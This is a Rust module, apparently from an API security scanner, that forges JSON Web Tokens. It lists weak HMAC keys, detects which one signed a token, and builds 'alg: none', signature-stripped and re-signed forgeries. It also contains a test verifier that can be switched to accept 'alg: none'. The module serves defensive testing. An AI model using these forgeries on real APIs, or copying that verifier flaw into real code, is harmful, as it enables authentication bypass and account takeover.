//! JSON Web Tokens as an attacker handles them (RFC 7519, RFC 7515's compact form): read a
//! token's header, find whether an HMAC-signed one (`HS256`, `HS384`, `HS512`) was signed
//! with one of a short list of weak keys, and forge one from it: `alg: none`, its
//! signature stripped, re-signed with a weak key or with a key the API cannot have.
//! Pure: the sender forges from the token it holds, the `token_forgery` oracle reads the
//! forged token the store kept, both with these functions.
//!
//! Depends on: `model` (the `CredentialProbe` a forged token is stored as); `ring` for HMAC.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use ring::hmac;
use serde_json::Value;

use crate::model::CredentialProbe;

/// The keys a token signed with HMAC is tried against, besides the API's name (the
/// document's title, as written, in lower case, and in lower case without spaces or
/// separators): defaults of tutorials, frameworks and generators, and the empty key.
/// Short on purpose: each is one HMAC computed here, never a request.
pub const WEAK_KEYS: [&str; 24] = [
    "",
    "secret",
    "password",
    "123456",
    "12345678",
    "changeme",
    "change-me",
    "changeit",
    "key",
    "jwt",
    "jwt-secret",
    "jwt_secret",
    "jwtsecret",
    "secret123",
    "secretkey",
    "secret-key",
    "secret_key",
    "mysecret",
    "supersecret",
    "your-256-bit-secret",
    "your_jwt_secret",
    "test",
    "admin",
    "qwerty",
];

/// The key a forged token is signed with when the question is whether the API checks the
/// signature at all: no API has it.
pub const NOT_THE_KEY: &str = "probe-not-the-key-0f3a9c41d2b7e865";

/// The claim a re-signed token carries beside the API's own, so that its signature is new
/// (re-signing the API's own token with its own key would give the token back).
pub const FORGED_CLAIM: &str = "probe_forged";

/// How a token is forged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Forgery {
    /// The header says `alg: none`, the signature is empty.
    AlgNone,
    /// The API's own header and claims, the signature left out.
    Unsigned,
    /// The claims with [`FORGED_CLAIM`] added, signed with the weak key that signed the
    /// API's token.
    WeakKey,
    /// The same, signed with [`NOT_THE_KEY`].
    OtherKey,
}

impl Forgery {
    /// How a case's `credentials` ask for the token to be forged, when they do.
    pub fn of(probe: CredentialProbe) -> Option<Forgery> {
        Some(match probe {
            CredentialProbe::ForgedAlgNone => Forgery::AlgNone,
            CredentialProbe::ForgedUnsigned => Forgery::Unsigned,
            CredentialProbe::ForgedWeakKey => Forgery::WeakKey,
            CredentialProbe::ForgedOtherKey => Forgery::OtherKey,
            _ => return None,
        })
    }

    /// What a case's `credentials` say to send a token forged so.
    pub fn probe(self) -> CredentialProbe {
        match self {
            Forgery::AlgNone => CredentialProbe::ForgedAlgNone,
            Forgery::Unsigned => CredentialProbe::ForgedUnsigned,
            Forgery::WeakKey => CredentialProbe::ForgedWeakKey,
            Forgery::OtherKey => CredentialProbe::ForgedOtherKey,
        }
    }

    /// How a message names it.
    pub fn describe(self) -> &'static str {
        match self {
            Forgery::AlgNone => "its header set to `alg: none` and no signature",
            Forgery::Unsigned => "its signature stripped",
            Forgery::WeakKey => "a claim added and re-signed with a weak key",
            Forgery::OtherKey => "a claim added and re-signed with a key the API cannot have",
        }
    }

    /// Its name in keys and reports.
    pub fn as_str(self) -> &'static str {
        match self {
            Forgery::AlgNone => "alg_none",
            Forgery::Unsigned => "unsigned",
            Forgery::WeakKey => "weak_key",
            Forgery::OtherKey => "other_key",
        }
    }
}

/// A compact JWT's three parts, the header decoded.
struct Parts<'a> {
    header: serde_json::Map<String, Value>,
    header_b64: &'a str,
    payload_b64: &'a str,
    signature_b64: &'a str,
}

fn parts(token: &str) -> Option<Parts<'_>> {
    let mut it = token.split('.');
    let (h, p, s) = (it.next()?, it.next()?, it.next()?);
    if it.next().is_some() || h.is_empty() || p.is_empty() {
        return None;
    }
    let header: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(h).ok()?).ok()?;
    let Value::Object(header) = header else {
        return None;
    };
    header.get("alg")?.as_str()?;
    Some(Parts {
        header,
        header_b64: h,
        payload_b64: p,
        signature_b64: s,
    })
}

/// The `alg` of a token's header, when `token` is a compact JWT.
pub fn algorithm(token: &str) -> Option<String> {
    Some(parts(token)?.header.get("alg")?.as_str()?.to_owned())
}

fn hmac_of(alg: &str) -> Option<hmac::Algorithm> {
    match alg {
        "HS256" => Some(hmac::HMAC_SHA256),
        "HS384" => Some(hmac::HMAC_SHA384),
        "HS512" => Some(hmac::HMAC_SHA512),
        _ => None,
    }
}

/// The keys tried: the API's name in its forms, then [`WEAK_KEYS`].
pub fn candidate_keys(title: &str) -> Vec<String> {
    let lower = title.trim().to_ascii_lowercase();
    let squeezed: String = lower.chars().filter(char::is_ascii_alphanumeric).collect();
    let mut keys: Vec<String> = Vec::new();
    for k in [title.trim().to_owned(), lower, squeezed]
        .into_iter()
        .chain(WEAK_KEYS.iter().map(|k| (*k).to_owned()))
    {
        if !keys.contains(&k) {
            keys.push(k);
        }
    }
    keys
}

/// The key of `keys` that signed `token` (an HMAC-signed JWT), checked here by HMAC, with
/// no request sent.
pub fn weak_key(token: &str, keys: &[String]) -> Option<String> {
    let p = parts(token)?;
    let alg = hmac_of(p.header.get("alg")?.as_str()?)?;
    let signature = URL_SAFE_NO_PAD.decode(p.signature_b64).ok()?;
    let signed = format!("{}.{}", p.header_b64, p.payload_b64);
    keys.iter()
        .find(|k| {
            hmac::verify(
                &hmac::Key::new(alg, k.as_bytes()),
                signed.as_bytes(),
                &signature,
            )
            .is_ok()
        })
        .cloned()
}

/// The forgeries worth sending in place of `token`: none when it is not a JWT; `alg:
/// none` and the signature stripped for any; for an HMAC-signed one, another key too, and
/// the weak key of `keys` when one signed it.
pub fn forgeries(token: &str, keys: &[String]) -> Vec<Forgery> {
    let Some(alg) = algorithm(token) else {
        return Vec::new();
    };
    if alg.eq_ignore_ascii_case("none") {
        return Vec::new();
    }
    let mut out = Vec::new();
    if hmac_of(&alg).is_some() {
        out.push(Forgery::OtherKey);
        if weak_key(token, keys).is_some() {
            out.push(Forgery::WeakKey);
        }
    }
    out.extend([Forgery::AlgNone, Forgery::Unsigned]);
    out
}

/// `token` forged as `how` says; `None` when it cannot be (not a JWT, or no weak key of
/// `keys` signed it).
pub fn forge(token: &str, how: Forgery, keys: &[String]) -> Option<String> {
    let p = parts(token)?;
    match how {
        Forgery::AlgNone => {
            let mut header = p.header.clone();
            header.insert("alg".into(), Value::from("none"));
            let header = URL_SAFE_NO_PAD.encode(Value::Object(header).to_string());
            Some(format!("{header}.{}.", p.payload_b64))
        }
        Forgery::Unsigned => Some(format!("{}.{}.", p.header_b64, p.payload_b64)),
        Forgery::WeakKey | Forgery::OtherKey => {
            let alg = hmac_of(p.header.get("alg")?.as_str()?)?;
            let key = match how {
                Forgery::WeakKey => weak_key(token, keys)?,
                _ => NOT_THE_KEY.to_owned(),
            };
            let claims: Value =
                serde_json::from_slice(&URL_SAFE_NO_PAD.decode(p.payload_b64).ok()?).ok()?;
            let Value::Object(mut claims) = claims else {
                return None;
            };
            claims.insert(FORGED_CLAIM.into(), Value::Bool(true));
            let payload = URL_SAFE_NO_PAD.encode(Value::Object(claims).to_string());
            let signed = format!("{}.{payload}", p.header_b64);
            let tag = hmac::sign(&hmac::Key::new(alg, key.as_bytes()), signed.as_bytes());
            Some(format!("{signed}.{}", URL_SAFE_NO_PAD.encode(tag.as_ref())))
        }
    }
}

/// Signs `claims` as an `HS256` JWT with `key`: what an API issues (the fixtures do).
pub fn sign_hs256(claims: &Value, key: &[u8]) -> String {
    let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"HS256","typ":"JWT"}"#);
    let payload = URL_SAFE_NO_PAD.encode(claims.to_string());
    let signed = format!("{header}.{payload}");
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), signed.as_bytes());
    format!("{signed}.{}", URL_SAFE_NO_PAD.encode(tag.as_ref()))
}

/// The claims of an `HS256` token whose signature `key` verifies, or, when `accept_none`,
/// of a token whose header says `alg: none` (any signature): what an API reads from a
/// bearer token (the fixtures do, with the fault switched on or off).
pub fn verify_hs256(token: &str, key: &[u8], accept_none: bool) -> Option<Value> {
    let p = parts(token)?;
    let claims =
        || serde_json::from_slice::<Value>(&URL_SAFE_NO_PAD.decode(p.payload_b64).ok()?).ok();
    match p.header.get("alg")?.as_str()? {
        "HS256" => {
            let signature = URL_SAFE_NO_PAD.decode(p.signature_b64).ok()?;
            let signed = format!("{}.{}", p.header_b64, p.payload_b64);
            hmac::verify(
                &hmac::Key::new(hmac::HMAC_SHA256, key),
                signed.as_bytes(),
                &signature,
            )
            .ok()?;
            claims()
        }
        alg if accept_none && alg.eq_ignore_ascii_case("none") => claims(),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn keys() -> Vec<String> {
        candidate_keys("Vulnerable Books API")
    }

    #[test]
    fn a_token_signed_with_a_weak_key_or_the_apps_name_is_told_by_hmac_alone() {
        let claims = json!({"sub": "alice", "exp": 4_000_000_000u64});
        let weak = sign_hs256(&claims, b"secret");
        assert_eq!(weak_key(&weak, &keys()).as_deref(), Some("secret"));
        let named = sign_hs256(&claims, b"vulnerablebooksapi");
        assert_eq!(
            weak_key(&named, &keys()).as_deref(),
            Some("vulnerablebooksapi")
        );
        let empty = sign_hs256(&claims, b"");
        assert_eq!(weak_key(&empty, &keys()).as_deref(), Some(""));
        let strong = sign_hs256(&claims, b"k9$Qw7!zR2#mT5^vX8&bN4*pL6@hJ3");
        assert_eq!(weak_key(&strong, &keys()), None);
        assert_eq!(
            forgeries(&strong, &keys()),
            [Forgery::OtherKey, Forgery::AlgNone, Forgery::Unsigned]
        );
        assert_eq!(
            forgeries(&weak, &keys()),
            [
                Forgery::OtherKey,
                Forgery::WeakKey,
                Forgery::AlgNone,
                Forgery::Unsigned
            ]
        );
        // Not a JWT: nothing to forge.
        assert!(forgeries("tok-alice-1-104729", &keys()).is_empty());
        assert!(forgeries("a.b.c", &keys()).is_empty());
    }

    #[test]
    fn each_forgery_is_what_it_says() {
        let claims = json!({"sub": "alice"});
        let key = b"secret";
        let token = sign_hs256(&claims, key);
        let weak = forge(&token, Forgery::WeakKey, &keys()).unwrap();
        assert_ne!(weak, token);
        let read = verify_hs256(&weak, key, false).unwrap();
        assert_eq!(read["sub"], "alice");
        assert_eq!(read[FORGED_CLAIM], true);
        let other = forge(&token, Forgery::OtherKey, &keys()).unwrap();
        assert!(verify_hs256(&other, key, false).is_none());
        assert!(verify_hs256(&other, NOT_THE_KEY.as_bytes(), false).is_some());
        let none = forge(&token, Forgery::AlgNone, &keys()).unwrap();
        assert_eq!(algorithm(&none).as_deref(), Some("none"));
        assert!(none.ends_with('.'));
        assert!(verify_hs256(&none, key, false).is_none());
        assert_eq!(verify_hs256(&none, key, true).unwrap()["sub"], "alice");
        let unsigned = forge(&token, Forgery::Unsigned, &keys()).unwrap();
        assert!(token.starts_with(&unsigned));
        assert!(verify_hs256(&unsigned, key, true).is_none());
        // A strong key is not found, so there is nothing to re-sign with.
        let strong = sign_hs256(&claims, b"not-on-any-list-3b8e");
        assert_eq!(forge(&strong, Forgery::WeakKey, &keys()), None);
    }
}
